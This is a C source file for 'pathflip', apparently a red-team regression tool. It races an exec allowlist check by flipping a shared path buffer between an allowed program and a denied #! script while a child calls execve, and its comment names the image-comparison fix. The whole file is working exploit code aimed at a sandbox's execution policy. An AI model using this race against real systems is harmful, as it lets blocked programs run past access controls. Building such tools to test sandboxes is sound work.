// pathflip races the exec check on the path rather than argv: a second
// thread flips the path between an allowed program and a denied #! script
// (found by the second red team). When the check sees the program and the
// kernel runs the script, the new image is the script's interpreter, which
// is allowed: only comparing the new image with the file that was checked
// catches it.
//
//	pathflip -n N -a ALLOWED -d DENIED    (paths of at most 7 bytes)
//
// Each attempt forks a caller that runs PATH -d /; the script prints what
// it likes. One summary line follows: summary n=N.
#define _GNU_SOURCE
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static union {
	char s[8];
	uint64_t u;
} path __attribute__((aligned(64)));
static uint64_t va, vd;

static void *flip(void *arg) {
	(void)arg;
	for (;;) {
		__atomic_store_n(&path.u, va, __ATOMIC_RELAXED);
		for (volatile int j = 0; j < 64; j++)
			;
		__atomic_store_n(&path.u, vd, __ATOMIC_RELAXED);
		for (volatile int j = 0; j < 64; j++)
			;
	}
	return NULL;
}

int main(int argc, char **argv) {
	int n = 100, opt;
	const char *allowed = NULL, *denied = NULL;
	while ((opt = getopt(argc, argv, "n:a:d:")) != -1) {
		switch (opt) {
		case 'n': n = atoi(optarg); break;
		case 'a': allowed = optarg; break;
		case 'd': denied = optarg; break;
		default: return 2;
		}
	}
	if (!allowed || !denied || strlen(allowed) > 7 || strlen(denied) > 7) {
		fprintf(stderr, "usage: pathflip -n N -a ALLOWED -d DENIED (paths of at most 7 bytes)\n");
		return 2;
	}
	memcpy(&va, allowed, strlen(allowed));
	memcpy(&vd, denied, strlen(denied));
	for (int i = 0; i < n; i++) {
		fflush(stdout);
		pid_t p = fork();
		if (p == 0) {
			path.u = va;
			pthread_t t;
			pthread_create(&t, NULL, flip, NULL);
			char *args[] = {"x", "-d", "/", NULL};
			execve(path.s, args, environ);
			_exit(1);
		}
		waitpid(p, NULL, 0);
	}
	printf("summary n=%d\n", n);
	return 0;
}
